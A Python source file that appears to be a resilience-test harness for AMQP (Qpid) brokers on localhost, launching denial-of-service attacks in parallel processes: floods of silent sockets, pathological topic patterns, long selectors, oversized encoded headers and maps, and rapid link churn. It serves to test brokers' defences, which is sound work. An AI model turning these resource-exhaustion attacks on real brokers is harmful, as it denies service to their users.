"""Peers that want to stop a broker from serving others.

`python attackers.py KIND PORT...` goes on until it is killed, against whichever of the brokers lets it in.
"""

from __future__ import annotations

import itertools
import os
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Mapping, Sequence
from contextlib import suppress
from pathlib import Path
from types import TracebackType
from typing import Final, Self

import proton
from proton import Message
from proton.reactor import Selector

from blocking_client import BlockingClient, Management
from raw_peer import (
    AMQP_HEADER,
    BEGIN,
    DETACH,
    FLOW,
    SENDER,
    RawPeer,
    attach,
    begin,
    described,
    encoded,
    frame,
    message,
    transfer,
)

HOST: Final = "127.0.0.1"
SILENT_SOCKETS: Final = 1500
"""More than a broker keeps that have not opened."""
PUBLISHED: Final = 150
"""Less than the credit that a new link gets."""
ROUND_S: Final = 2.0
"""So long one connection attacks, once it is let in."""
BREAK_S: Final = 0.02
"""Between two rounds, so that two cores have room for brokers, too."""
NICENESS: Final = 5
BACKLOG: Final = 2000


class Flood:
    """Keeps `count` sockets open, each silent after `beginning`; one that the broker ends is opened again."""

    def __init__(self, port: int, count: int, beginning: bytes = b"") -> None:
        self._port = port
        self._count = count
        self._beginning = beginning
        self._sockets: list[socket.socket] = []
        self._is_over = threading.Event()
        self._thread = threading.Thread(target=self._go_on, daemon=True)
        self.opened_total = 0

    def _go_on(self) -> None:
        while not self._is_over.is_set():
            if len(self._sockets) < self._count:
                with suppress(OSError):
                    self._open_one()
                    continue
            self._sockets = [each for each in self._sockets if not _is_closed(each)]
            self._is_over.wait(0.005)

    def _open_one(self) -> None:
        found = socket.create_connection((HOST, self._port), timeout=0.2)
        self._sockets.append(found)
        found.setblocking(False)
        found.send(self._beginning)
        self.opened_total += 1

    def __enter__(self) -> Self:
        self._thread.start()
        deadline = time.monotonic() + 20
        while self.opened_total < self._count and time.monotonic() < deadline:
            time.sleep(0.01)
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._is_over.set()
        self._thread.join()
        for each in self._sockets:
            each.close()


def _is_closed(found: socket.socket) -> bool:
    try:
        closed = found.recv(65536) == b""
    except BlockingIOError:
        return False
    except OSError:
        closed = True
    if closed:
        found.close()
    return closed


# --- what takes a processor's time


def attached(port: int, address: str) -> RawPeer:
    """A peer that has a sender to `address` on handle 0. Raises OSError or EOFError where it is not let in."""
    peer = RawPeer(port, timeout_s=20)
    try:
        peer.open()
        peer.send(begin() + attach("attack", 0, SENDER, address))
        peer.expect(BEGIN)
        peer.expect(FLOW)
    except BaseException:
        peer.close()
        raise
    return peer


def publish(port: int, address: str, *payloads: bytes) -> None:
    """Send them again and again, as far as the first credit allows, and leave without a word."""
    until_s = time.monotonic() + ROUND_S
    with attached(port, address) as peer:
        for number, payload in zip(range(PUBLISHED), itertools.cycle(payloads), strict=False):
            peer.send(transfer(0, number, payload, settled=True))
            if time.monotonic() >= until_s:
                break
        peer.send(frame(DETACH, [proton.uint(0), True]))
        peer.expect(DETACH)


def bind(port: int, exchange: str, key: str, arguments: Mapping[str, object] | None = None) -> None:
    """A queue of few messages behind `exchange`."""
    with BlockingClient(f"amqp://{HOST}:{port}") as client:
        management = Management(client)
        management.create_queue("bound", {"qpid.max_count": 100, "qpid.policy_type": "ring"})
        management.bind(exchange, "bound", key, dict(arguments or {}))


def topics(port: int) -> None:
    """Subjects of very many words against patterns with very many `#`."""
    bind(port, "amq.topic", ".".join(["#", "a"] * 60))
    subjects = [".".join(["a"] * words + ["b"]) for words in (50, 500, 10_000)]
    publish(
        port, "amq.topic", *(encoded(described(0x73, [None, None, None, each])) + message(b"x") for each in subjects)
    )


def selectors(port: int) -> None:
    """A consumer whose selector is long, and matches none of very many messages."""
    condition = "a LIKE '%_1x%_2x%_3x%_4x%' OR " + " OR ".join(f"p{number} = 'x'" for number in range(150))
    with BlockingClient(f"amqp://{HOST}:{port}") as client:
        browsed = Message(b"x", properties={"a": "1" * 4000, **{f"p{number}": number for number in range(200)}})
        Management(client).create_queue("selected", {"qpid.max_count": BACKLOG, "qpid.policy_type": "ring"})
        client.send("selected", *[browsed] * 20)
        until_s = time.monotonic() + ROUND_S
        while time.monotonic() < until_s:
            client.receiver("selected", 100, Selector(condition)).close()


def sections(port: int) -> None:
    """Headers, properties and maps of very many values."""
    bind(port, "amq.match", "k", {"x-match": "any", "a": "b"})
    nulls = 60_000
    long_list = b"\xd0" + struct.pack(">II", nulls + 4, nulls) + b"\x40" * nulls
    pairs = b"".join(b"\xa1\x05%05d\x54\x01" % number for number in range(6000))
    long_map = b"\xd1" + struct.pack(">II", len(pairs) + 4, 12_000) + pairs
    payloads = (b"\x00\x53\x70" + long_list, b"\x00\x53\x73" + long_list, b"\x00\x53\x74" + long_map)
    publish(port, "amq.match", *(each + message(b"x") for each in payloads))


def links(port: int) -> None:
    """Links that come and go, as fast as they can be written."""
    with attached(port, "linked") as peer:
        until_s, number = time.monotonic() + ROUND_S, 0
        while time.monotonic() < until_s:
            number += 1
            peer.send(attach(f"l{number}", number, SENDER, "linked") + frame(DETACH, [proton.uint(number), True]))


def silence(port: int) -> None:
    """Very many sockets, half of which say that they are about to speak AMQP."""
    with Flood(port, SILENT_SOCKETS // 2), Flood(port, SILENT_SOCKETS // 2, AMQP_HEADER):
        time.sleep(ROUND_S)


ATTACKS: Final[Mapping[str, Callable[[int], None]]] = {
    each.__name__: each for each in (silence, topics, selectors, sections, links)
}


class Attack:
    """`with Attack(ports) as attack:` all of them at once, each in a process of its own."""

    def __init__(self, ports: Sequence[int], kinds: Sequence[str] = tuple(ATTACKS)) -> None:
        self._commands = {kind: [sys.executable, __file__, kind, *map(str, ports)] for kind in kinds}
        self._processes: dict[str, subprocess.Popen[bytes]] = {}
        self._directory = tempfile.TemporaryDirectory(prefix="qpid-ha-attack-")

    @property
    def ended(self) -> list[str]:
        """Attacks that have ended by themselves, which none should."""
        return [kind for kind, process in self._processes.items() if process.poll() is not None]

    def rounds(self) -> dict[str, int]:
        """How often each attack was carried out to its end: none that was never let in has shown anything."""
        return {kind: self._rounds_path(kind).stat().st_size for kind in self._commands}

    def _rounds_path(self, kind: str) -> Path:
        return Path(self._directory.name, kind)

    def __enter__(self) -> Self:
        environment = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
        for kind, command in self._commands.items():
            with self._rounds_path(kind).open("ab") as rounds:
                self._processes[kind] = subprocess.Popen(
                    command, env=environment, stdout=rounds, stderr=subprocess.DEVNULL
                )
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        for process in self._processes.values():
            process.kill()
            process.wait()
        self._directory.cleanup()


def attack_forever(kind: str, ports: Sequence[int]) -> None:
    """Each port in turn; who is refused, sent elsewhere or dropped tries the next one."""
    os.nice(NICENESS)
    while True:
        for port in ports:
            with suppress(OSError, EOFError, proton.ProtonException, struct.error, KeyError, AssertionError):
                ATTACKS[kind](port)
                print(end=".", flush=True)
            time.sleep(BREAK_S)


if __name__ == "__main__":
    attack_forever(sys.argv[1], [int(text) for text in sys.argv[2:]])
